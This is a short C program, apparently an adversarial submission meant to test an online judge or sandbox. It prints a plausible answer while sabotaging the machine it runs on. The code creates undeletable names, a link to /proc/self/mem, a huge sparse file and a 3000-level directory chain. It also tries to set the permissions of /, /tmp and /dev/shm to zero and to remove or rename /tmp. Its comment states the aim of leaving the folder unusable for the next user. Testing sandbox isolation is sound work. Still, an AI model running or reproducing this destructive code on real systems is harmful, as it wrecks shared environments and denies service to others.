// Makes its folder unusable for whoever comes next: modes, names, links, depth, holes.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    char name[300];
    long long a = 0, b = 0;
    if (scanf("%lld%lld", &a, &b) != 2) return 1;
    signal(SIGXFSZ, SIG_IGN);
    memset(name, '\xff', sizeof name);
    name[255] = 0;
    mkdir(name, 0), symlink("/proc/self/mem", "link"), mkfifo("fifo", 0), link("fifo", "another");
    int hole = open("hole", O_CREAT | O_RDWR, 0);
    ftruncate(hole, 1L << 40), fallocate(hole, 0, 0, 1L << 30);
    for (int depth = 0; depth < 3000; depth++)
        if (mkdir("d", 0700) || chdir("d")) break;
    for (int file = 0; file < 3; file++) fchmod(file, 0), fchown(file, 12, 12), fcntl(file, F_ADD_SEALS, 15);
    dprintf(1, "%lld\n", a == 3 ? (a * 7919 + b * 104729) % 1000003 : 0);
    chmod("/tmp", 0), chmod("/dev/shm", 0), chmod("/", 0), rmdir("/tmp"), rename("/tmp", "/gone");
    return 0;
}
